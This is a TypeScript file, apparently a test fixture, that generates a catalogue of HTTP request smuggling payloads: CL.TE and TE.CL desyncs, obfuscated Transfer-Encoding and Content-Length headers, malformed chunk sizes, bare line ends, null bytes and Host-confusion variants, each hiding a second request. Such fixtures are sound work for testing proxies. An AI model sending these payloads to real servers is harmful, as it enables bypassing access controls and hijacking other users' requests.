/**
 * Request smuggling: a request that one parser takes for one, and another for two. Read correctly it is one, with a
 * hidden one in it. Where nginx itself reads two, and passes them on as two, `mostAtNginx` says so: then no other
 * parser can differ.
 */
type Case = { what: string; write(hidden: string): string; mostAtNginx?: number }

const post = 'POST /api/v2/nothing-here HTTP/1.1\r\nHost: shop.example.com\r\nContent-Type: application/json\r\n'
const get = 'GET /healthz HTTP/1.1\r\nHost: shop.example.com\r\n'
const hiddenAt = (mark: string) => `GET ${mark} HTTP/1.1\r\nHost: shop.example.com\r\nX-Rest: `
const lengthOf = (text: string) => Buffer.byteLength(text)
const hex = (text: string) => lengthOf(text).toString(16)

/** The length covers everything; a parser that trusts the other header finds a second request in it. */
const behindZero = (te: string) => (hidden: string) => {
  const body = `0\r\n\r\n${hidden}`
  return `${post}Content-Length: ${lengthOf(body)}\r\n${te}\r\n\r\n${body}`
}
const lengths = (lines: (whole: number) => string) => (hidden: string) => `${post}${lines(lengthOf(hidden))}\r\n\r\n${hidden}`
/** Chunks: a parser that counts one wrongly finds the hidden request outside of them. */
const chunks = (body: (hidden: string) => string) => (hidden: string) =>
  `${post}Transfer-Encoding: chunked\r\n\r\n${body(hidden)}0\r\n\r\n`

export const cases: Case[] = [
  { what: 'CL.TE', write: behindZero('Transfer-Encoding: chunked') },
  {
    what: 'TE.CL',
    write: (hidden) => `${post}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n${hex(hidden)}\r\n${hidden}\r\n0\r\n\r\n`,
  },
  { what: 'TE of another name', write: behindZero('Transfer-Encoding: xchunked') },
  { what: 'TE with a space before the colon', write: behindZero('Transfer-Encoding : chunked') },
  { what: 'TE with a tab before the colon', write: behindZero('Transfer-Encoding\t: chunked') },
  { what: 'TE folded', write: behindZero('Transfer-Encoding:\r\n chunked') },
  { what: 'TE behind a space', write: behindZero('X-Any: x\r\n Transfer-Encoding: chunked') },
  { what: 'TE after a tab', write: behindZero('Transfer-Encoding:\tchunked') },
  { what: 'TE after a vertical tab', write: behindZero('Transfer-Encoding: \x0bchunked') },
  { what: 'TE twice, chunked first', write: behindZero('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity') },
  { what: 'TE twice, chunked last', write: behindZero('Transfer-Encoding: identity\r\nTransfer-Encoding: chunked') },
  { what: 'TE as a list', write: behindZero('Transfer-Encoding: identity, chunked') },
  { what: 'TE as a list, chunked not last', write: behindZero('Transfer-Encoding: chunked, identity') },
  { what: 'TE in capitals', write: behindZero('TRANSFER-ENCODING: CHUNKED') },
  { what: 'TE in quotes', write: behindZero('Transfer-Encoding: "chunked"') },
  { what: 'TE behind a bare LF', write: behindZero('X-Any: x\nTransfer-Encoding: chunked') },
  { what: 'TE behind a bare CR', write: behindZero('X-Any: x\rTransfer-Encoding: chunked') },
  { what: 'TE with a zero byte', write: behindZero('Transfer-Encoding: chunked\0') },
  { what: 'TE by an underscore', write: behindZero('Transfer_Encoding: chunked') },
  { what: 'TE named as a hop', write: behindZero('Connection: close, Content-Length\r\nTransfer-Encoding: chunked') },
  { what: 'CL twice, 0 first', write: lengths((whole) => `Content-Length: 0\r\nContent-Length: ${whole}`) },
  { what: 'CL twice, 0 last', write: lengths((whole) => `Content-Length: ${whole}\r\nContent-Length: 0`) },
  { what: 'CL as a list', write: lengths((whole) => `Content-Length: ${whole}, 0`) },
  { what: 'CL with a plus', write: lengths((whole) => `Content-Length: +${whole}`) },
  { what: 'CL negative', write: lengths(() => 'Content-Length: -1') },
  { what: 'CL in hex', write: lengths((whole) => `Content-Length: 0x${whole.toString(16)}`) },
  { what: 'CL with a power of ten', write: lengths(() => 'Content-Length: 1e2') },
  { what: 'CL beyond 64 bits', write: lengths(() => 'Content-Length: 18446744073709551616') },
  { what: 'CL in two words', write: lengths((whole) => `Content-Length: 0 ${whole}`) },
  { what: 'CL empty', write: lengths(() => 'Content-Length:') },
  { what: 'CL with a space before the colon', write: lengths((whole) => `Content-Length: ${whole}\r\nContent-Length : 0`) },
  { what: 'CL folded', write: lengths((whole) => `Content-Length: ${whole}\r\n 0`) },
  { what: 'CL behind a bare LF', write: lengths((whole) => `Content-Length: ${whole}\r\nX-Any: x\nContent-Length: 0`) },
  { what: 'CL named as a hop', write: lengths((whole) => `Connection: Content-Length\r\nContent-Length: ${whole}`) },
  { what: 'a body behind GET', write: (hidden) => `${get}Content-Length: ${lengthOf(hidden)}\r\n\r\n${hidden}` },
  {
    what: 'chunks behind GET',
    write: (hidden) => `${get}Transfer-Encoding: chunked\r\n\r\n${hex(hidden)}\r\n${hidden}\r\n0\r\n\r\n`,
  },
  { what: 'chunk with an extension', write: chunks((hidden) => `${hex(hidden)};name=value\r\n${hidden}\r\n`) },
  { what: 'chunk whose extension ends in LF', write: chunks((hidden) => `2;\nxx\r\n${hex(hidden)}\r\n${hidden}\r\n`) },
  { what: 'chunk size with 0x', write: chunks((hidden) => `0x${hex(hidden)}\r\n${hidden}\r\n`) },
  { what: 'chunk size negative', write: chunks((hidden) => `-1\r\n${hidden}\r\n`) },
  { what: 'chunk size beyond 64 bits', write: chunks((hidden) => `10000000000000000${hex(hidden)}\r\n${hidden}\r\n`) },
  { what: 'chunk without its line end', write: chunks((hidden) => `1\r\naxx${hex(hidden)}\r\n${hidden}\r\n`) },
  {
    what: 'chunks ended by a bare LF',
    write: (hidden) => `${post}Transfer-Encoding: chunked\r\n\r\n1\na\n0\n\n${hidden}\r\n\r\n`,
    mostAtNginx: 2,
  },
  {
    what: 'a length among the trailers',
    write: (hidden) =>
      `${post}Transfer-Encoding: chunked\r\n\r\n1\r\n1\r\n0\r\nContent-Length: ${lengthOf(hidden)}\r\nX-Trail: ${hidden.replaceAll('\r\n', ' ')}\r\n\r\n`,
  },
  {
    what: 'chunks in HTTP/1.0',
    write: (hidden) =>
      behindZero('Transfer-Encoding: chunked\r\nConnection: keep-alive')(hidden).replace('HTTP/1.1', 'HTTP/1.0'),
  },
  {
    what: 'to be continued',
    write: (hidden) => `${post}Expect: 100-continue\r\nContent-Length: ${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  {
    what: 'an upgrade',
    write: (hidden) =>
      `${post}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: ${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  {
    what: 'a method in the header of another',
    write: (hidden) => `${post}X-HTTP-Method-Override: GET\r\nContent-Length: ${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  {
    what: 'Host twice',
    write: (hidden) =>
      `GET /healthz HTTP/1.1\r\nHost: shop.example.com\r\nHost: evil.example.com\r\nContent-Length: ${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  {
    what: 'Host folded',
    write: (hidden) =>
      `GET /healthz HTTP/1.1\r\nHost:\r\n shop.example.com\r\nContent-Length: ${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  { what: 'no Host', write: (hidden) => `GET /healthz HTTP/1.1\r\nContent-Length: ${lengthOf(hidden)}\r\n\r\n${hidden}` },
  {
    what: 'an absolute address of another host',
    write: (hidden) =>
      `GET http://evil.example.com/healthz HTTP/1.1\r\nHost: shop.example.com\r\nContent-Length: ${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  {
    what: 'two versions',
    write: (hidden) =>
      `GET /healthz HTTP/1.1 HTTP/1.1\r\nHost: shop.example.com\r\nContent-Length: ${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  {
    what: 'a line end in the address',
    write: (hidden) =>
      `GET /healthz%0d%0aContent-Length:%200 HTTP/1.1\r\nHost: shop.example.com\r\nContent-Length: ${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  {
    what: 'a zero byte in a name',
    write: (hidden) => `${post}Content-Length\0: 0\r\nContent-Length: ${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
  {
    what: 'a zero byte in a value',
    write: (hidden) => `${post}X-Any: a\0b\r\nContent-Length: ${lengthOf(hidden)}\r\n\r\n${hidden}`,
  },
]

/** The bytes of a case that hides a request for `mark`. */
export const buildSmuggling = (mark: string, { what, write }: Case) => ({ what, bytes: write(hiddenAt(mark)) })
